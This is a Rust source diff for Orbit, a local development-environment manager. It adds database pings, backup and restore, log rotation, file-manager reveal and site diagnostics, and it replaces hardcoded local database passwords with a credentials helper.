+/// Check every Orbit path, optionally repairing the ones that are not writable.
+fn check_permissions(fix: bool) -> Vec<PermissionCheck> {
+    permission_targets()
+        .into_iter()
+        .map(|(label, path, is_dir)| {
+            let check = check_path_permission(label, &path, is_dir);
+            if !fix || check.writable || !check.exists {
+                return check;
+            }
+            let outcome = repair_path_permission(&path, is_dir);
+            let mut rechecked = check_path_permission(label, &path, is_dir);
+            rechecked.repair = Some(match outcome {
+                Ok(()) if rechecked.writable => "repaired".to_string(),
+                Ok(()) => "repair ran but path is still not writable".to_string(),
+                Err(e) => e,
+            });
+            rechecked
+        })
+        .collect()
 }
 
-fn tool_hosts_add(domain: &str) -> Result<String, String> {
-    if domain.is_empty() {
-        return Err("Domain is required".to_string());
-    }
-    add_hosts_entry(domain)?;
-    Ok(format!("Added '{}' → 127.0.0.1 to hosts file", domain))
+fn tool_check_permissions(fix: bool) -> Result<String, String> {
+    let checks = check_permissions(fix);
+    let all_writable = checks.iter().all(|c| c.writable);
+    Ok(serde_json::to_string_pretty(&json!({
+        "all_writable": all_writable,
+        "checks": checks
+    })).unwrap())
 }
 
-fn tool_hosts_remove(domain: &str) -> Result<String, String> {
-    if domain.is_empty() {
-        return Err("Domain is required".to_string());
+// ─── Database Connectivity ───────────────────────────────────────
+
+/// Quick probe query for each engine, returning the server version alongside
+/// the trivial result so one round trip answers both.
+fn ping_query(engine: &str) -> Option<&'static str> {
+    match engine {
+        "mariadb" => Some("SELECT 1 AS ok, VERSION() AS version"),
+        "postgresql" => Some("SELECT 1 AS ok, current_setting('server_version') AS version"),
+        "mongodb" => Some("JSON.stringify({ ok: db.runCommand({ ping: 1 }).ok, version: db.version() })"),
+        _ => None,
     }
-    remove_hosts_entry(domain)?;
-    Ok(format!("Removed '{}' from hosts file", domain))
+}
+
+/// Server version from a ping's client output: MariaDB's tab-separated
+/// `--batch` rows, psql's aligned table, or mongosh's JSON.
+fn ping_version(engine: &str, stdout: &str) -> Option<String> {
+    let version = match engine {
+        "mariadb" => stdout.lines().nth(1)?.split('\t').nth(1)?.trim().to_string(),
+        "postgresql" => stdout.lines().nth(2)?.split('|').nth(1)?.trim().to_string(),
+        "mongodb" => serde_json::from_str::<Value>(stdout.trim()).ok()?["version"].as_str()?.to_string(),
+        _ => return None,
+    };
+    Some(version).filter(|v| !v.is_empty())
+}
+
+fn tool_ping_database(engine: &str) -> Result<String, String> {
+    let query = ping_query(engine)
+        .ok_or_else(|| format!("Unknown engine '{}'. Use mariadb, postgresql or mongodb", engine))?;
+    require_service(engine)?;
+
+    let started = std::time::Instant::now();
+    let result = match engine {
+        "mariadb" => run_mariadb_query(query),
+        "postgresql" => run_psql_query(None, query),
+        _ => run_mongosh_command(Some("admin"), query),
+    };
+    let latency_ms = started.elapsed().as_millis() as u64;
+
+    let report = match result {
+        Ok(stdout) => json!({
+            "engine": engine,
+            "reachable": true,
+            "latency_ms": latency_ms,
+            "version": ping_version(engine, &stdout)
+        }),
+        Err(e) => json!({
+            "engine": engine,
+            "reachable": false,
+            "latency_ms": latency_ms,
+            "version": null,
+            "error": e
+        }),
+    };
+    Ok(serde_json::to_string_pretty(&report).unwrap())
 }
 
 // ─── Database Export/Import ──────────────────────────────────────
@@ -4016,17 +11031,19 @@ fn tool_db_export(database: &str, output: Option<&str>) -> Result<String, String
     let dump_exe = find_mariadb_dump(&bin_dir)?;
     let out_file = output.map(|s| s.to_string()).unwrap_or_else(|| format!("{}.sql", database));
 
-    let result = hidden_command(&dump_exe)
-        .arg("--host=127.0.0.1").arg("--port=3306")
-        .arg("-u").arg("root").arg("-proot")
-        .arg("--routines").arg("--triggers").arg("--single-transaction")
-        .arg(database)
-        .output()
+    let result = run_with_timeout(
+        hidden_command(&dump_exe)
+            .arg("--host=127.0.0.1").arg("--port=3306")
+            .args(db_credentials().mariadb_auth_args())
+            .arg("--routines").arg("--triggers").arg("--single-transaction")
+            .arg(database),
+        operation_timeout("db_export"),
+    )
         .map_err(|e| format!("Failed to run mysqldump: {}", e))?;
 
     if !result.status.success() {
-        let stderr = String::from_utf8_lossy(&result.stderr);
-        return Err(format!("Export failed: {}", stderr.trim()));
+        // The dump itself stays raw bytes; only the failure is summarised
+        return Err(format!("Export failed: {}", CommandResult::from(result).error_detail()));
     }
 
     fs::write(&out_file, &result.stdout)
@@ -4053,31 +11070,186 @@ fn tool_db_import(database: &str, file: &str) -> Result<String, String> {
         .map_err(|e| format!("Failed to read SQL file: {}", e))?;
     let file_size = sql_content.len();
 
-    let mut child = hidden_command(&client)
-        .arg("--host=127.0.0.1").arg("--port=3306")
-        .arg("-u").arg("root").arg("-proot")
-        .arg(database)
-        .stdin(std::process::Stdio::piped())
-        .stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped())
-        .spawn()
-        .map_err(|e| format!("Failed to start mysql client: {}", e))?;
+    let output = run_with_timeout_input(
+        hidden_command(&client)
+            .arg("--host=127.0.0.1").arg("--port=3306")
+            .args(db_credentials().mariadb_auth_args())
+            .arg(database),
+        Some(sql_content),
+        operation_timeout("db_import"),
+    )
+        .map(CommandResult::from)
+        .map_err(|e| format!("Failed to run mysql client: {}", e))?;
 
-    if let Some(mut stdin) = child.stdin.take() {
-        use std::io::Write;
-        stdin.write_all(&sql_content)
-            .map_err(|e| format!("Failed to write to stdin: {}", e))?;
+    if !output.success() {
+        return Err(format!("Import failed: {}", output.error_detail()));
     }
 
-    let output = child.wait_with_output()
-        .map_err(|e| format!("Failed to wait for import: {}", e))?;
+    Ok(format!("Imported {} ({} bytes) into '{}'", file, file_size, database))
+}
 
-    if !output.status.success() {
-        let stderr = String::from_utf8_lossy(&output.stderr);
-        return Err(format!("Import failed: {}", stderr.trim()));
+// ─── Environment Backup ──────────────────────────────────────────
+
+/// Written at the root of every environment backup; restore rejects archives without it.
+const BACKUP_MANIFEST: &str = "orbit-backup.json";
+
+/// Service whose process owns `bin/data/<dir>`, so it can be required to be stopped.
+fn data_dir_service(dir: &str) -> &str {
+    match dir {
+        "postgres" => "postgresql",
+        other => other,
     }
+}
 
-    Ok(format!("Imported {} ({} bytes) into '{}'", file, file_size, database))
+/// Files under `dir`, relative to it, with `/` separators.
+fn collect_backup_files(dir: &std::path::Path, prefix: &str, out: &mut Vec<(String, PathBuf)>) {
+    let Ok(entries) = fs::read_dir(dir) else { return };
+    for entry in entries.flatten() {
+        let path = entry.path();
+        let name = format!("{}/{}", prefix, entry.file_name().to_string_lossy());
+        if path.is_dir() {
+            collect_backup_files(&path, &name, out);
+        } else {
+            out.push((name, path));
+        }
+    }
+}
+
+/// Where a backup entry is restored to, or `None` if it is not part of the
+/// backup layout (`config/...` or `data/<dir>/...`).
+fn backup_entry_target(name: &std::path::Path, config_dir: &std::path::Path, bin_dir: &std::path::Path) -> Option<PathBuf> {
+    if let Ok(rest) = name.strip_prefix("config") {
+        return (!rest.as_os_str().is_empty()).then(|| config_dir.join(rest));
+    }
+    let rest = name.strip_prefix("data").ok()?;
+    (rest.components().count() >= 2).then(|| bin_dir.join("data").join(rest))
+}
+
+fn tool_create_backup(output_path: &str, include_data: &[String]) -> Result<String, String> {
+    use std::io::Write as _;
+
+    if output_path.is_empty() {
+        return Err("Output path is required".to_string());
+    }
+
+    let bin_dir = get_bin_dir();
+    let mut files = Vec::new();
+    collect_backup_files(&get_config_dir(), "config", &mut files);
+
+    for dir in include_data {
+        let data_dir = bin_dir.join("data").join(dir);
+        if dir.is_empty() || dir.contains(['/', '\\', '.']) || !data_dir.is_dir() {
+            return Err(format!("Unknown data directory '{}'", dir));
+        }
+        let service = data_dir_service(dir);
+        if is_service_running(service) {
+            return Err(format!("Stop {} before backing up its data directory", service));
+        }
+        collect_backup_files(&data_dir, &format!("data/{}", dir), &mut files);
+    }
+
+    let manifest = json!({
+        "orbit_version": env!("CARGO_PKG_VERSION"),
+        "created_at": chrono_now(),
+        "data": include_data
+    });
+
+    let file = fs::File::create(output_path)
+        .map_err(|e| format!("Failed to create {}: {}", output_path, e))?;
+    let mut zip = zip::ZipWriter::new(file);
+    let options = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated);
+
+    zip.start_file(BACKUP_MANIFEST, options)
+        .and_then(|_| Ok(zip.write_all(serde_json::to_string_pretty(&manifest).unwrap().as_bytes())?))
+        .map_err(|e| format!("Failed to write backup manifest: {}", e))?;
+    for (name, path) in &files {
+        let content = fs::read(path)
+            .map_err(|e| format!("Failed to read {}: {}", path.display(), e))?;
+        zip.start_file(name.as_str(), options)
+            .and_then(|_| Ok(zip.write_all(&content)?))
+            .map_err(|e| format!("Failed to add {} to backup: {}", name, e))?;
+    }
+    zip.finish().map_err(|e| format!("Failed to finish backup: {}", e))?;
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "archive": output_path,
+        "entries": files.len(),
+        "data": include_data
+    })).unwrap())
+}
+
+fn tool_restore_backup(archive_path: &str, force: bool) -> Result<String, String> {
+    if archive_path.is_empty() {
+        return Err("Archive path is required".to_string());
+    }
+
+    let file = fs::File::open(archive_path)
+        .map_err(|e| format!("Failed to open {}: {}", archive_path, e))?;
+    let mut archive = zip::ZipArchive::new(file)
+        .map_err(|e| format!("Not a valid backup archive: {}", e))?;
+    if archive.index_for_name(BACKUP_MANIFEST).is_none() {
+        return Err(format!("Not an Orbit backup: {} is missing", BACKUP_MANIFEST));
+    }
+
+    // Validate every entry before touching the filesystem
+    let config_dir = get_config_dir();
+    let bin_dir = get_bin_dir();
+    let mut targets = Vec::new();
+    for i in 0..archive.len() {
+        let entry = archive.by_index(i)
+            .map_err(|e| format!("Failed to read backup entry: {}", e))?;
+        if entry.is_dir() || entry.name() == BACKUP_MANIFEST {
+            continue;
+        }
+        let target = entry.enclosed_name()
+            .and_then(|name| backup_entry_target(&name, &config_dir, &bin_dir))
+            .ok_or_else(|| format!("Unexpected entry in backup: {}", entry.name()))?;
+        targets.push((i, target));
+    }
+
+    let existing: Vec<String> = targets.iter()
+        .filter(|(_, target)| target.exists())
+        .map(|(_, target)| target.display().to_string())
+        .collect();
+    if !existing.is_empty() && !force {
+        return Err(format!(
+            "Restoring would overwrite {} existing file(s), e.g. {}. Pass force: true to overwrite.",
+            existing.len(), existing[0]
+        ));
+    }
+
+    let data_dirs: std::collections::BTreeSet<String> = targets.iter()
+        .filter_map(|(_, target)| target.strip_prefix(bin_dir.join("data")).ok())
+        .filter_map(|rest| rest.components().next())
+        .map(|dir| dir.as_os_str().to_string_lossy().to_string())
+        .collect();
+    for dir in &data_dirs {
+        let service = data_dir_service(dir);
+        if is_service_running(service) {
+            return Err(format!("Stop {} before restoring its data directory", service));
+        }
+    }
+
+    for (i, target) in &targets {
+        let mut entry = archive.by_index(*i)
+            .map_err(|e| format!("Failed to read backup entry: {}", e))?;
+        if let Some(parent) = target.parent() {
+            fs::create_dir_all(parent)
+                .map_err(|e| format!("Failed to create {}: {}", parent.display(), e))?;
+        }
+        let mut out = fs::File::create(target)
+            .map_err(|e| format!("Failed to write {}: {}", target.display(), e))?;
+        io::copy(&mut entry, &mut out)
+            .map_err(|e| format!("Failed to write {}: {}", target.display(), e))?;
+    }
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "archive": archive_path,
+        "entries": targets.len(),
+        "overwritten": existing.len(),
+        "data": data_dirs
+    })).unwrap())
 }
 
 // ─── Log Management ─────────────────────────────────────────────
@@ -4110,9 +11282,193 @@ fn tool_clear_log(name: &str) -> Result<String, String> {
     Ok(format!("Cleared log file: {}", name))
 }
 
+fn tool_rotate_log(name: &str, keep: Option<u64>) -> Result<String, String> {
+    let keep = keep.map(|k| k.min(LOG_ROTATE_MAX_KEEP as u64) as usize).unwrap_or(LOG_ROTATE_KEEP);
+    let rotation = rotate_log(&get_bin_dir(), name, keep)?;
+
+    let mut msg = format!(
+        "Rotated {} ({}) to {}.1, keeping {} cop{}",
+        name,
+        format_size(rotation.size),
+        name,
+        rotation.keep,
+        if rotation.keep == 1 { "y" } else { "ies" }
+    );
+    for path in &rotation.removed {
+        msg.push_str(&format!("\nRemoved: {}", path.display()));
+    }
+    if let Some(e) = rotation.reopen_error {
+        msg.push_str(&format!("\nWarning: nginx -s reopen failed, restart nginx to write to the fresh log: {}", e));
+    }
+    Ok(msg)
+}
+
+// ─── Log Rotation (shared with cli.rs) ───────────────────────────
+
+/// Rotated copies kept when the caller doesn't pass `keep`
+const LOG_ROTATE_KEEP: usize = 5;
+
+/// Most rotated copies `keep` may ask for; larger values are clamped
+const LOG_ROTATE_MAX_KEEP: usize = 100;
+
+/// Outcome of `rotate_log`
+struct LogRotation {
+    /// Size of the live log before rotation
+    size: u64,
+    /// Rotated copies kept, after clamping
+    keep: usize,
+    /// Old copies deleted because they fell beyond `keep`
+    removed: Vec<PathBuf>,
+    /// Set when nginx is running but `nginx -s reopen` failed
+    reopen_error: Option<String>,
+}
+
+fn rotated_log_path(path: &std::path::Path, index: usize) -> PathBuf {
+    let mut rotated = path.as_os_str().to_os_string();
+    rotated.push(format!(".{}", index));
+    PathBuf::from(rotated)
+}
+
+/// Rotate a log from `scan_log_files`: `<log>.N` moves to `<log>.N+1`, the live
+/// file becomes `<log>.1` and starts empty, and copies past `keep` are deleted.
+/// nginx logs are renamed and nginx reopens its files; other services hold
+/// their log open, so theirs are copied and truncated in place instead.
+fn rotate_log(bin_dir: &PathBuf, name: &str, keep: usize) -> Result<LogRotation, String> {
+    // Only names from the scanned set, so a crafted name can't reach other files
+    if name.is_empty() || name.contains("..") {
+        return Err("Invalid log name".to_string());
+    }
+    if keep == 0 {
+        return Err("keep must be at least 1".to_string());
+    }
+    let keep = keep.min(LOG_ROTATE_MAX_KEEP);
+    let log = scan_log_files(bin_dir)
+        .into_iter()
+        .find(|l| l.name == name)
+        .ok_or_else(|| format!("Log file not found: {}", name))?;
+
+    let file_name = log.path.file_name().unwrap_or_default().to_string_lossy().to_string();
+    let prefix = format!("{}.", file_name);
+    let mut removed = Vec::new();
+    if let Some(dir) = log.path.parent() {
+        for entry in fs::read_dir(dir).map_err(|e| format!("Failed to read log directory: {}", e))?.flatten() {
+            let entry_name = entry.file_name().to_string_lossy().to_string();
+            let index = entry_name.strip_prefix(&prefix).and_then(|n| n.parse::<usize>().ok());
+            if index.is_some_and(|n| n >= keep) {
+                fs::remove_file(entry.path())
+                    .map_err(|e| format!("Failed to remove {}: {}", entry_name, e))?;
+                removed.push(entry.path());
+            }
+        }
+    }
+
+    for index in (1..keep).rev() {
+        let from = rotated_log_path(&log.path, index);
+        if from.exists() {
+            fs::rename(&from, rotated_log_path(&log.path, index + 1))
+                .map_err(|e| format!("Failed to shift {}: {}", from.display(), e))?;
+        }
+    }
+
+    let is_nginx = name.starts_with("nginx/");
+    let first = rotated_log_path(&log.path, 1);
+    // Fall back to copying if Windows refuses to rename a file nginx holds open
+    if !(is_nginx && fs::rename(&log.path, &first).is_ok()) {
+        fs::copy(&log.path, &first).map_err(|e| format!("Failed to copy {}: {}", name, e))?;
+    }
+    fs::File::create(&log.path).map_err(|e| format!("Failed to truncate {}: {}", name, e))?;
+
+    let mut reopen_error = None;
+    if is_nginx && is_service_running("nginx") {
+        let nginx_dir = bin_dir.join("nginx");
+        let nginx = nginx_dir.join(exe_name("nginx"));
+        let output = hidden_command(&nginx)
+            .current_dir(&nginx_dir)
+            .args(["-s", "reopen"])
+            .output();
+        reopen_error = match output {
+            Ok(o) if o.status.success() => None,
+            Ok(o) => Some(String::from_utf8_lossy(&o.stderr).trim().to_string()),
+            Err(e) => Some(e.to_string()),
+        };
+    }
+
+    Ok(LogRotation { size: log.size, keep, removed, reopen_error })
+}
+
+// ─── File Manager ────────────────────────────────────────────────
+
+/// Build the per-OS command that shows `path` in the file manager. Explorer and
+/// Finder select the file; on Linux xdg-open can only open the containing folder.
+fn reveal_command(path: &std::path::Path) -> Command {
+    #[cfg(target_os = "windows")]
+    {
+        use std::os::windows::process::CommandExt;
+        let mut cmd = Command::new("explorer");
+        if path.is_dir() {
+            cmd.arg(path);
+        } else {
+            // explorer parses its own command line, so the quotes must be passed through verbatim
+            cmd.raw_arg(format!("/select,\"{}\"", path.display()));
+        }
+        cmd
+    }
+    #[cfg(target_os = "macos")]
+    {
+        let mut cmd = Command::new("open");
+        if !path.is_dir() {
+            cmd.arg("-R");
+        }
+        cmd.arg(path);
+        cmd
+    }
+    #[cfg(not(any(target_os = "windows", target_os = "macos")))]
+    {
+        let folder = if path.is_dir() { path } else { path.parent().unwrap_or(path) };
+        let mut cmd = Command::new("xdg-open");
+        cmd.arg(folder);
+        cmd
+    }
+}
+
+fn tool_reveal_path(path: &str) -> Result<String, String> {
+    if path.is_empty() {
+        return Err("Path is required".to_string());
+    }
+
+    let target = std::path::Path::new(path);
+    if !target.exists() {
+        return Err(format!("Path not found: {}", path));
+    }
+    let target = target.canonicalize().map_err(|e| format!("Failed to resolve path: {}", e))?;
+    #[cfg(target_os = "windows")]
+    let target = PathBuf::from(target.to_string_lossy().trim_start_matches(r"\\?\"));
+
+    reveal_command(&target)
+        .spawn()
+        .map_err(|e| format!("Failed to open file manager: {}", e))?;
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "revealed": target.to_string_lossy(),
+        "is_dir": target.is_dir(),
+    })).unwrap())
+}
+
 // ─── Service Install/Uninstall ──────────────────────────────────
 
-fn tool_install_service(service: &str, version: Option<&str>) -> Result<String, String> {
+/// Prefix of orbit-cli's machine-readable download progress lines:
+/// `[progress] <downloaded> <total|->` (see PROGRESS_PREFIX in cli.rs)
+const CLI_PROGRESS_PREFIX: &str = "[progress]";
+
+/// Bytes downloaded and total (None if unknown) from an orbit-cli progress line
+fn parse_cli_progress(line: &str) -> Option<(u64, Option<u64>)> {
+    let mut parts = line.strip_prefix(CLI_PROGRESS_PREFIX)?.split_whitespace();
+    let downloaded = parts.next()?.parse().ok()?;
+    let total = parts.next()?.parse().ok();
+    Some((downloaded, total))
+}
+
+fn tool_install_service(service: &str, version: Option<&str>, use_lock: bool) -> Result<String, String> {
     if service.is_empty() {
         return Err("Service name is required".to_string());
     }
@@ -4125,14 +11481,34 @@ fn tool_install_service(service: &str, version: Option<&str>) -> Result<String,
         cmd_args.push("--version".to_string());
         cmd_args.push(ver.to_string());
     }
+    if use_lock {
+        cmd_args.push("--locked".to_string());
+    }
 
-    let result = hidden_command(&cli_exe)
-        .args(&cmd_args)
-        .output()
-        .map_err(|e| format!("Failed to run orbit-cli install: {}", e))?;
+    // orbit-cli reports download progress on stderr when not on a terminal
+    let mut on_line = |line: &str| {
+        if let Some((downloaded, total)) = parse_cli_progress(line) {
+            let message = match total {
+                Some(total) => format!("Downloading {}: {} / {}", service, format_size(downloaded), format_size(total)),
+                None => format!("Downloading {}: {}", service, format_size(downloaded)),
+            };
+            report_progress(downloaded, total, &message);
+        }
+    };
+    let result = run_with_timeout_stderr_lines(
+        hidden_command(&cli_exe).args(&cmd_args),
+        operation_timeout("install"),
+        &mut on_line,
+    ).map_err(|e| format!("Failed to run orbit-cli install: {}", e))?;
+
+    invalidate_services_cache();
 
     let stdout = String::from_utf8_lossy(&result.stdout);
-    let stderr = String::from_utf8_lossy(&result.stderr);
+    let stderr: String = String::from_utf8_lossy(&result.stderr)
+        .lines()
+        .filter(|line| parse_cli_progress(line).is_none())
+        .collect::<Vec<_>>()
+        .join("\n");
 
     if !result.status.success() && stdout.is_empty() {
         return Err(format!("Install failed: {}", stderr.trim()));
@@ -4143,6 +11519,26 @@ fn tool_install_service(service: &str, version: Option<&str>) -> Result<String,
     Ok(clean_output.trim().to_string())
 }
 
+fn tool_refresh_versions() -> Result<String, String> {
+    let cli_exe = find_orbit_cli();
+    let result = run_with_timeout(
+        hidden_command(&cli_exe).args(["--json", "versions", "--refresh"]),
+        operation_timeout("default"),
+    ).map_err(|e| format!("Failed to run orbit-cli versions: {}", e))?;
+
+    let stdout = String::from_utf8_lossy(&result.stdout);
+    if !result.status.success() {
+        let stderr = strip_ansi_codes(&String::from_utf8_lossy(&result.stderr));
+        return Err(format!("Version refresh failed: {}", stderr.trim()));
+    }
+    let services: Value = serde_json::from_str(stdout.trim())
+        .map_err(|e| format!("Unexpected orbit-cli output: {}", e))?;
+    Ok(serde_json::to_string_pretty(&json!({
+        "cache_expired": true,
+        "services": services
+    })).unwrap())
+}
+
 fn tool_uninstall_service(service: &str) -> Result<String, String> {
     if service.is_empty() {
         return Err("Service name is required".to_string());
@@ -4171,6 +11567,7 @@ fn tool_uninstall_service(service: &str) -> Result<String, String> {
 
     fs::remove_dir_all(&service_dir)
         .map_err(|e| format!("Failed to remove {}: {}", resolved, e))?;
+    invalidate_services_cache();
 
     Ok(format!("Uninstalled '{}' (removed {})", resolved, service_dir.display()))
 }
@@ -4228,7 +11625,7 @@ fn tool_diagnose_service(name: &str) -> Result<String, String> {
 
     let resolved = resolve_service_name(name);
     let bin_dir = get_bin_dir();
-    let services = scan_services(&bin_dir);
+    let services = scan_services_cached(&bin_dir);
 
     let service = services.iter().find(|s| {
         s.name == resolved || s.name.starts_with(&resolved)
@@ -4270,6 +11667,14 @@ fn tool_diagnose_service(name: &str) -> Result<String, String> {
         suggestions.push(format!("Start it: start_service {{ \"name\": \"{}\" }}", svc.name));
     }
 
+    if let Some(pending) = read_pending_restarts().into_iter().find(|e| e.service == svc.name) {
+        details.insert("pending_restart".into(), json!(pending.reason));
+        if running {
+            issues.push(format!("Config changed since last start ({}) — not applied yet", pending.reason));
+            suggestions.push(format!("Restart it: restart_service {{ \"name\": \"{}\" }}", svc.name));
+        }
+    }
+
     // Service-specific checks
     match svc.service_type.as_str() {
         "nginx" => {
@@ -4343,6 +11748,18 @@ fn tool_diagnose_service(name: &str) -> Result<String, String> {
             if !data_dir.exists() {
                 issues.push("MariaDB data directory not found".into());
                 suggestions.push("Initialize MariaDB data directory".into());
+            } else {
+                let perm = check_path_permission("mariadb_data_dir", &data_dir, true);
+                if !perm.writable {
+                    issues.push(format!(
+                        "MariaDB data directory is not writable: {}",
+                        perm.problem.clone().unwrap_or_default()
+                    ));
+                    if let Some(fix) = &perm.remediation {
+                        suggestions.push(format!("Grant write access: {} (or check_permissions {{ \"fix\": true }})", fix));
+                    }
+                }
+                details.insert("data_dir_permissions".into(), json!(perm));
             }
             // Check error log
             let err_log = data_dir.join("mysql.err");
@@ -4354,7 +11771,8 @@ fn tool_diagnose_service(name: &str) -> Result<String, String> {
             if running {
                 if let Ok(client) = find_mariadb_client(&bin_dir) {
                     let ping = hidden_command(&client)
-                        .args(["--host=127.0.0.1", "--port=3306", "-u", "root", "-proot", "--connect-timeout=3"])
+                        .args(["--host=127.0.0.1", "--port=3306", "--connect-timeout=3"])
+                        .args(db_credentials().mariadb_auth_args())
                         .arg("-e").arg("SELECT 1")
                         .output();
                     if let Ok(output) = ping {
@@ -4405,9 +11823,11 @@ fn tool_diagnose_service(name: &str) -> Result<String, String> {
             details.insert("data_dir_exists".into(), json!(data_dir.exists()));
             if running {
                 if let Ok(psql) = find_psql_client(&bin_dir) {
+                    let creds = db_credentials();
                     let ping = hidden_command(&psql)
-                        .args(["-U", "postgres", "-h", "127.0.0.1", "-p", "5432", "-c", "SELECT 1"])
-                        .env("PGPASSWORD", "postgres")
+                        .arg("-U").arg(&creds.pg_user)
+                        .args(["-h", "127.0.0.1", "-p", "5432", "-c", "SELECT 1"])
+                        .env("PGPASSWORD", &creds.pg_password)
                         .output();
                     if let Ok(output) = ping {
                         let reachable = output.status.success();
@@ -4505,18 +11925,23 @@ fn tool_diagnose_site(domain: &str) -> Result<String, String> {
         }
     }
 
-    // Check hosts file
-    let hosts_path = get_hosts_path();
-    let in_hosts = if let Ok(content) = fs::read_to_string(&hosts_path) {
-        content.contains(&format!("127.0.0.1 {}", domain))
-    } else {
-        false
-    };
-    details.insert("in_hosts_file".into(), json!(in_hosts));
-    if !in_hosts {
+    // Check hosts file for the domain and each alias
+    let hosts_content = fs::read_to_string(get_hosts_path()).unwrap_or_default();
+    let in_hosts = |name: &str| hosts_content.contains(&format!("127.0.0.1 {}", name));
+    details.insert("in_hosts_file".into(), json!(in_hosts(domain)));
+    if !in_hosts(domain) {
         issues.push("Domain not in hosts file".into());
         suggestions.push(format!("Add hosts entry: hosts_add {{ \"domain\": \"{}\" }}", domain));
     }
+    if let Some(s) = site.filter(|s| !s.aliases.is_empty()) {
+        let missing: Vec<&String> = s.aliases.iter().filter(|a| !in_hosts(a)).collect();
+        details.insert("aliases".into(), json!(s.aliases));
+        details.insert("aliases_missing_from_hosts".into(), json!(missing));
+        for alias in missing {
+            issues.push(format!("Alias '{}' not in hosts file", alias));
+            suggestions.push(format!("Add hosts entry: hosts_add {{ \"domain\": \"{}\" }}", alias));
+        }
+    }
 
     // Check SSL
     let ssl_cert = bin_dir.join("nginx").join("ssl").join(format!("{}.pem", domain));
@@ -4531,36 +11956,368 @@ fn tool_diagnose_site(domain: &str) -> Result<String, String> {
             suggestions.push(format!("Generate SSL: generate_ssl {{ \"domain\": \"{}\" }}", domain));
         }
     }
+    if let Some(expires) = ssl_cert.exists().then(|| cert_not_after(&ssl_cert)).flatten() {
+        let days = (expires - chrono::Utc::now()).num_days();
+        details.insert("ssl_expires_at".into(), json!(expires.to_rfc3339()));
+        details.insert("ssl_days_remaining".into(), json!(days));
+        if site.is_some_and(|s| s.ssl_enabled) && days < SSL_EXPIRY_WARNING_DAYS {
+            issues.push(if expires < chrono::Utc::now() {
+                format!("SSL certificate expired on {}", expires.format("%Y-%m-%d"))
+            } else {
+                format!("SSL certificate expires in {} days", days)
+            });
+            suggestions.push(format!("Renew SSL: generate_ssl {{ \"domain\": \"{}\" }}", domain));
+        }
+    }
+
+    // Check reachability via TCP
+    let port = site.map(|s| s.port).unwrap_or(80);
+    let reachable = std::net::TcpStream::connect_timeout(
+        &format!("127.0.0.1:{}", port).parse().unwrap(),
+        std::time::Duration::from_secs(2),
+    ).is_ok();
+    details.insert("reachable".into(), json!(reachable));
+    if !reachable && nginx_running {
+        issues.push(format!("Site not reachable on port {}", port));
+        suggestions.push("Check nginx config and ensure site is properly configured".into());
+    }
+
+    let status = if issues.is_empty() {
+        "healthy"
+    } else if reachable {
+        "degraded"
+    } else {
+        "down"
+    };
+
+    let result = json!({
+        "domain": domain,
+        "status": status,
+        "issues": issues,
+        "suggestions": suggestions,
+        "details": details
+    });
+
+    Ok(serde_json::to_string_pretty(&result).unwrap())
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum LogSeverity {
+    Info,
+    Warning,
+    Error,
+}
+
+/// Which line format a log uses, from its scan_log_files name (e.g. "php-8.4/php_errors.log").
+fn log_format(log_name: &str) -> &'static str {
+    let source = log_name.split('/').next().unwrap_or("");
+    match source {
+        "nginx" => "nginx",
+        "apache" => "apache",
+        "mariadb" => "mariadb",
+        "redis" => "redis",
+        "postgresql" => "postgresql",
+        "mongodb" => "mongodb",
+        s if s.starts_with("php") => "php",
+        _ => "generic",
+    }
+}
+
+/// Map an nginx/Apache severity word ("error", "warn", ...) to a level.
+fn bracket_severity(level: &str) -> Option<LogSeverity> {
+    match level {
+        "emerg" | "alert" | "crit" | "error" => Some(LogSeverity::Error),
+        "warn" => Some(LogSeverity::Warning),
+        "notice" | "info" | "debug" => Some(LogSeverity::Info),
+        _ if level.starts_with("trace") => Some(LogSeverity::Info),
+        _ => None,
+    }
+}
+
+/// Access-log lines carry no level; classify by the HTTP status after the request.
+fn access_log_severity(line: &str) -> LogSeverity {
+    let status = line.split('"').nth(2)
+        .and_then(|rest| rest.split_whitespace().next())
+        .and_then(|code| code.parse::<u16>().ok());
+    match status {
+        Some(500..=599) => LogSeverity::Error,
+        Some(400..=499) => LogSeverity::Warning,
+        _ => LogSeverity::Info,
+    }
+}
+
+/// Classify one log line using the conventions of the service that wrote it.
+fn classify_log_line(format: &str, line: &str) -> LogSeverity {
+    match format {
+        // nginx: "2024/01/01 12:00:00 [error] 123#0: ..."
+        // Apache: "[Mon Jan 01 ...] [proxy_fcgi:error] [pid 1] ..."
+        "nginx" | "apache" => {
+            let bracketed = line.split('[').skip(1).filter_map(|part| part.split(']').next());
+            for token in bracketed {
+                let level = token.rsplit(':').next().unwrap_or(token).trim();
+                if let Some(severity) = bracket_severity(level) {
+                    return severity;
+                }
+            }
+            access_log_severity(line)
+        }
+        "php" => {
+            let levels = [
+                ("Fatal error", LogSeverity::Error),
+                ("Parse error", LogSeverity::Error),
+                ("Recoverable fatal error", LogSeverity::Error),
+                ("Uncaught", LogSeverity::Error),
+                ("Warning:", LogSeverity::Warning),
+                ("Notice:", LogSeverity::Info),
+                ("Deprecated:", LogSeverity::Info),
+            ];
+            levels.iter()
+                .find(|(marker, _)| line.contains(marker))
+                .map(|(_, severity)| *severity)
+                .unwrap_or(LogSeverity::Info)
+        }
+        // "2024-01-01 12:00:00 0 [ERROR] InnoDB: ..."
+        "mariadb" => {
+            if line.contains("[ERROR]") {
+                LogSeverity::Error
+            } else if line.contains("[Warning]") {
+                LogSeverity::Warning
+            } else {
+                LogSeverity::Info
+            }
+        }
+        // "1234:M 01 Jan 2024 12:00:00.000 # message" — '#' is warning, '*' notice, '-'/'.' debug
+        "redis" => {
+            let marker = line.split_whitespace().nth(5).unwrap_or("");
+            let lower = line.to_lowercase();
+            match marker {
+                "#" if lower.contains("fatal") || lower.contains("error") => LogSeverity::Error,
+                "#" => LogSeverity::Warning,
+                _ => LogSeverity::Info,
+            }
+        }
+        // "... [123] ERROR:  relation does not exist"
+        "postgresql" => {
+            if ["PANIC:", "FATAL:", "ERROR:"].iter().any(|l| line.contains(l)) {
+                LogSeverity::Error
+            } else if line.contains("WARNING:") {
+                LogSeverity::Warning
+            } else {
+                LogSeverity::Info
+            }
+        }
